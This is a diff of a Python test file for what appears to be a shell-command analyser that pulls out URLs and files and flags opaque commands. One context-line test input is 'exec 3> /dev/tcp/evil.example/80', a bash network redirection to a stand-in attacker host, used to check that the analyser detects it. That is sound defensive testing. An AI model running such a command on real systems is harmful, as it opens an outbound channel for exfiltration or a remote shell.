@@ -287,3 +287,9 @@ def test_a_network_redirection_is_a_fetch_that_is_opaque() -> None:
     found = reading("exec 3> /dev/tcp/evil.example/80")
     assert [url.text for url in found.urls] == ["tcp://evil.example:80"]
     assert found.opaque
+
+
+def test_of_very_many_files_the_first_are_kept_and_the_rest_is_opaque() -> None:
+    found = reading("cat " + " ".join(f"f{number}" for number in range(PARTS + 10)))
+    assert len(found.files) == PARTS
+    assert any("files" in reason for reason in found.opaque)
